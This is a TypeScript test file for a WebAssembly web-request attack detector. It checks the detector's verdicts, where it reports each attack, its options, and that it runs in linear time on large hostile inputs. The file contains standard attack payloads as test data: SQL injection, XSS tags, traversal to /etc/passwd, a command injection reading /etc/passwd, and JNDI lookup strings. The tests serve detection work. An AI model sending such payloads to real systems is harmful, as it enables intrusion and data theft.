// The standalone engine (build/gatewarden-engine.wasm, `npm run build:engine`) loaded through the Node
// loader the TME will use: imports, verdicts, locations, options, and linear time on hostile inputs.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { DetectionEngine, defaultWasmPath } from "../../filter/node/engine.ts";

const engine = DetectionEngine.load();
const get = (query: string, headers: Array<[string, string]> = []) => engine.inspect({ method: "GET", path: "/", query, headers });

test("the standalone module imports nothing but env.abort", () => {
  const imports = WebAssembly.Module.imports(new WebAssembly.Module(readFileSync(defaultWasmPath)));
  assert.deepEqual(
    imports.map((i) => `${i.module}.${i.name}`),
    ["env.abort"],
  );
});

test("flags one attack of each category, with its rule and location", () => {
  const cases: Array<[string, string]> = [
    ["1' or '1'='1", "sqli"],
    ["<script>alert(1)</script>", "xss"],
    ["../../../etc/passwd", "traversal"],
    ["; cat /etc/passwd", "cmdi"],
    ["${${lower:j}ndi:ldap://x.example/a}", "jndi"],
  ];
  for (const [payload, category] of cases) {
    const f = get("id=7&q=" + encodeURIComponent(payload));
    assert.ok(f, payload);
    assert.equal(f.category, category, payload);
    assert.equal(f.location, "query:q");
    assert.match(f.rule, new RegExp(`^${category}\\.`));
    assert.ok(f.snippet.length > 0 && f.snippet.length <= 64);
  }
});

test("passes a clean JSON POST and reports JSON paths, cookies and headers", () => {
  const clean = engine.inspect({
    method: "POST",
    path: "/api/orders",
    query: "page=2",
    contentType: "application/json",
    headers: [
      ["user-agent", "Mozilla/5.0"],
      ["cookie", "sid=abc; theme=dark"],
    ],
    body: Buffer.from(JSON.stringify({ name: "Maria Fernández", notes: "Leave it at the door, please.", qty: 2 })),
  });
  assert.equal(clean, null);
  const json = engine.inspect({
    method: "POST",
    path: "/api",
    query: "",
    headers: [],
    contentType: "application/json",
    body: Buffer.from(JSON.stringify({ a: { b: [1, "ok", "<img src=x onerror=alert(1)>"] } })),
  });
  assert.equal(json?.location, "body.json:$.a.b[2]");
  assert.equal(get("", [["cookie", "a=1; s=" + encodeURIComponent("1 union select 1,2--")]])?.location, "cookie:s");
  assert.equal(get("", [["referer", "https://x.example/?q=${jndi:ldap://x/a}"]])?.location, "header:referer");
});

test("options select categories and headers", () => {
  const e = DetectionEngine.load(defaultWasmPath, { categories: ["xss"], headers: ["x-custom"] });
  assert.equal(e.inspect({ method: "GET", path: "/", query: "q=" + encodeURIComponent("' or 1=1--"), headers: [] }), null);
  assert.equal(
    e.inspect({ method: "GET", path: "/", query: "", headers: [["X-Custom", "<svg onload=alert(1)>"]] })?.location,
    "header:x-custom",
  );
  assert.equal(e.inspect({ method: "GET", path: "/", query: "", headers: [["user-agent", "<svg onload=alert(1)>"]] }), null);
});

// Linear work on 128 KiB takes a few ms; quadratic work takes seconds (131072² / 2 steps). The bound sits far
// from both, so a loaded CI machine cannot make it flake and a quadratic scanner still fails it.
const LINEAR_BOUND_MS = 1500;

test("runs in linear time on 128 KiB of hostile input", () => {
  const units = [
    "'",
    "<",
    "(",
    '"',
    "/*",
    "${",
    "{{",
    "../",
    "%",
    "&#",
    "\\u",
    "<a ",
    "on",
    " or ",
    "`",
    ";",
    "%c0",
    "\\",
    "\n",
    "\r\n",
    '\n"',
    ")(",
    "..{",
  ];
  for (const unit of units) {
    const s = unit.repeat(Math.floor(131072 / unit.length));
    const t = performance.now();
    engine.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "text/plain", body: Buffer.from(s) });
    engine.inspect({
      method: "POST",
      path: "/",
      query: "",
      headers: [],
      contentType: "application/json",
      body: Buffer.from(JSON.stringify({ v: s })),
    });
    const ms = performance.now() - t;
    assert.ok(ms < LINEAR_BOUND_MS, `${JSON.stringify(unit)} took ${ms.toFixed(1)} ms`);
  }
  const t = performance.now();
  engine.inspect({
    method: "POST",
    path: "/",
    query: "",
    headers: [],
    contentType: "text/plain",
    body: Buffer.from("(".repeat(65536) + ")".repeat(65536)),
  });
  engine.inspect({
    method: "POST",
    path: "/",
    query: "",
    headers: [],
    contentType: "text/plain",
    body: Buffer.from("${".repeat(32768) + "}".repeat(65536)),
  });
  assert.ok(performance.now() - t < LINEAR_BOUND_MS);
});

test("walks XML bodies in linear time, hostile or deep", () => {
  const units = [
    "<",
    "<a>",
    "</a>",
    "<a ",
    "<a b='",
    '<a b="1" ',
    "<!--",
    "<![CDATA[",
    "<?",
    "<?x ",
    "<!DOCTYPE [",
    "&lt;",
    "a<!---->",
    "<a><![CDATA[x]]>",
    "<a/>",
    "'<b>",
    "]]>",
    "?>",
  ];
  const xml = (body: string) =>
    engine.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "application/xml", body: Buffer.from(body) });
  for (const unit of units) {
    const s = unit.repeat(Math.floor(131072 / unit.length));
    const t = performance.now();
    xml(s);
    xml("<r>" + s + "</r>");
    const ms = performance.now() - t;
    assert.ok(ms < LINEAR_BOUND_MS, `${JSON.stringify(unit)} took ${ms.toFixed(1)} ms`);
  }
  const t = performance.now();
  assert.equal(xml("<a>".repeat(32768) + "</a>".repeat(32768)), null);
  assert.ok(performance.now() - t < LINEAR_BOUND_MS);
  assert.equal(xml("<r><v>1' or '1'='1</v></r>")?.location, "body.xml:/r/v");
});
